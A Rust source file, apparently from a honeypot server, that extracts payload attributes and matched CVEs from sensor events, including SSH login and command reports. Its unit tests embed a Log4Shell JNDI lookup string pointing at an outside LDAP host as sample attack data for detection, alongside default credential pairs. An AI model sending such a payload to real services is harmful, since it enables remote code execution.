//! Ingest-time payload analysis: every RX payload is distilled into the
//! attribute values payload history keeps and the CVEs it was seen exploiting
//! (`apiary-extract` does the parsing and matching).
//!
//! It runs on the ingesting thread, next to enrichment, before the batch goes
//! to the store: the store then only merges sets. Sensors cannot send these
//! facts; the server derives them, so a sensor cannot claim a CVE its payload
//! did not carry.
//!
//! SSH is the exception to "RX payloads": its bytes are encrypted, so the
//! credentials and commands an SSH session carries reach the server only as
//! the sensor's INFO events (`{"type":"login",...}`, `{"type":"command",...}`,
//! see `apiary-sensor`'s `facts.rs`). Those are read here too, for every
//! service, since a set already holding the same value from the RX side is
//! unchanged by it.

use apiary_extract::{Attr, AttrName, MAX_VALUE_BYTES};
use apiary_model::{Event, EventKind, PayloadFacts, PayloadValue};
use serde::Deserialize;

/// Fills in `facts` for every RX event that carries a payload and every
/// INFO event reporting a login or a command.
pub fn analyze_payloads(events: &mut [Event]) {
    let mut cves = Vec::new();
    for e in events.iter_mut() {
        match e.kind {
            EventKind::Rx if !e.data.is_empty() => {
                let mut values: Vec<PayloadValue> = Vec::new();
                cves.clear();
                let mut keep = |a: Attr<'_>| {
                    let attribute = (a.name != AttrName::Payload).then(|| a.name.as_str());
                    push_distinct(&mut values, PayloadValue::new(attribute, a.value.to_owned(), a.truncated));
                };
                apiary_extract::analyze_each(&e.service, &e.data, &mut keep, &mut cves);
                e.facts = PayloadFacts { values, cves: cves.clone() };
            }
            EventKind::Info => {
                if let Some(facts) = info_facts(&e.service, &e.data) {
                    e.facts = facts;
                }
            }
            _ => {}
        }
    }
}

/// A header repeated in one request is one value, not two.
fn push_distinct(values: &mut Vec<PayloadValue>, v: PayloadValue) {
    if !values.iter().any(|seen| seen.md5 == v.md5 && seen.attribute == v.attribute) {
        values.push(v);
    }
}

/// The fields of a sensor's INFO fact this module reads.
#[derive(Deserialize)]
struct InfoFact<'a> {
    #[serde(rename = "type", borrow)]
    kind: Option<std::borrow::Cow<'a, str>>,
    username: Option<String>,
    password: Option<String>,
    command: Option<String>,
}

/// Attributes and CVEs of an INFO event's login or command, if it is one.
fn info_facts(service: &str, data: &[u8]) -> Option<PayloadFacts> {
    // Most INFO events are no login or command: without a backslash no key
    // is escaped, so one without a literal "type" key has none at all.
    if !data.contains(&b'\\') && memchr::memmem::find(data, b"\"type\"").is_none() {
        return None;
    }
    let fact: InfoFact<'_> = serde_json::from_slice(data).ok()?;
    let is_shell = ["ssh", "telnet"].iter().any(|s| service.get(..s.len()).is_some_and(|p| p.eq_ignore_ascii_case(s)));
    let mut values = Vec::new();
    let mut text = String::new();
    match fact.kind.as_deref()? {
        "login" => {
            for (name, v) in [("username", fact.username), ("password", fact.password)] {
                if let Some(v) = v.filter(|v| !v.is_empty()) {
                    text.push_str(&v);
                    text.push('\n');
                    push_distinct(&mut values, bounded(name, v));
                }
            }
        }
        "command" if is_shell => {
            let command = fact.command.filter(|c| !c.is_empty())?;
            text.push_str(&command);
            push_distinct(&mut values, bounded("shell-command", command));
        }
        _ => return None,
    }
    // A JNDI lookup as an SSH user name is an exploit like any other.
    let cves = apiary_extract::match_cves(service, text.as_bytes());
    let facts = PayloadFacts { values, cves };
    (!facts.is_empty()).then_some(facts)
}

/// A value cut to the size limit the extractor applies, on a char boundary.
fn bounded(attribute: &'static str, mut value: String) -> PayloadValue {
    let truncated = value.len() > MAX_VALUE_BYTES;
    if truncated {
        let mut end = MAX_VALUE_BYTES;
        while !value.is_char_boundary(end) {
            end -= 1;
        }
        value.truncate(end);
    }
    PayloadValue::new(Some(attribute), value, truncated)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values(f: &PayloadFacts) -> Vec<(Option<&str>, &str)> {
        f.values.iter().map(|v| (v.attribute, v.value.as_str())).collect()
    }

    #[test]
    fn ssh_logins_and_commands_come_from_info_events() {
        let f = info_facts("SSH", br#"{"type":"login","username":"root","password":"toor"}"#).unwrap();
        assert_eq!(values(&f), vec![(Some("username"), "root"), (Some("password"), "toor")]);
        let f = info_facts("SSH", br#"{"type":"command","command":"uname -a"}"#).unwrap();
        assert_eq!(values(&f), vec![(Some("shell-command"), "uname -a")]);
        let f =
            info_facts("SSH", br#"{"type":"login","username":"${jndi:ldap://192.0.2.9/a}","password":"x"}"#).unwrap();
        assert_eq!(f.cves, vec!["CVE-2021-44228"]);
    }

    #[test]
    fn other_infos_and_garbage_yield_nothing() {
        // A Redis "command" fact is already a redis-command from the RX side.
        assert!(info_facts("Redis", br#"{"type":"command","command":"INFO"}"#).is_none());
        assert!(info_facts("SSH", br#"{"type":"client","version":"SSH-2.0-Go"}"#).is_none());
        assert!(info_facts("SSH", b"not json").is_none());
        assert!(info_facts("SSH", br#"{"username":"root","password":"admin"}"#).is_none());
        // An escaped key is read as what it spells.
        let f = info_facts("SSH", br#"{"\u0074ype":"login","username":"root"}"#).unwrap();
        assert_eq!(values(&f), vec![(Some("username"), "root")]);
        assert!(info_facts("SSH", br#"{"type":"login","username":""}"#).is_none());
        assert!(info_facts("SSH", br#"{"type":7}"#).is_none());
    }

    #[test]
    fn long_values_are_cut_and_flagged() {
        let long = "é".repeat(MAX_VALUE_BYTES);
        let v = bounded("password", long);
        assert!(v.truncated && v.value.len() <= MAX_VALUE_BYTES);
    }
}
